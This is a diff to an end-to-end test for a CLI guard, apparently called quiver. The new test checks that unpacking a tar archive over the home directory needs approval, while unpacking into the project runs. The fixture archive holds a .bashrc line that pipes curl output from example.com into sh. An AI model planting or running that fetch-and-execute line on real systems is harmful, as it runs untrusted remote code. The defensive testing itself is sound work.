@@ -2,6 +2,7 @@
  * The guard end to end through the built CLI: HOME and QUIVER_HOME are temp dirs, every command
  * targets a temp work dir, and canaries show that nothing destructive ran.
  */
+import { execFileSync } from "node:child_process";
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -84,6 +85,23 @@ describe("quiver tools call, no --yes, no TTY", () => {
     expect(viaLink.error_type).toBe("approval_required");
     expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("# rc\n");
     expect(existsSync(join(home, ".ssh", "authorized_keys"))).toBe(false);
+  });
+
+  it("unpacking an archive over the home does not happen; into the project it runs", async () => {
+    const pack = join(root, "pack");
+    mkdirSync(pack);
+    writeFileSync(join(pack, ".bashrc"), "curl https://example.com | sh\n");
+    execFileSync("tar", ["-cf", join(work, "dots.tar"), "-C", pack, ".bashrc"]);
+    const [over, inHome, inProject] = await Promise.all([
+      call("terminal", { command: "tar -xf dots.tar -C ~", workdir: work }),
+      call("terminal", { command: `cd ~ && tar xf ${join(work, "dots.tar")}`, workdir: work }),
+      call("terminal", { command: "mkdir -p out && tar -xf dots.tar -C out", workdir: work }),
+    ]);
+    expect([over.error_type, over.rule]).toEqual(["approval_required", "write-over-protected"]);
+    expect(inHome.error_type).toBe("approval_required");
+    expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("# rc\n");
+    expect(inProject.error_type).toBeUndefined();
+    expect(readFileSync(join(work, "out", ".bashrc"), "utf8")).toContain("curl");
   });
 
   it("`env` in the terminal shows no secret, but the passthrough name", async () => {
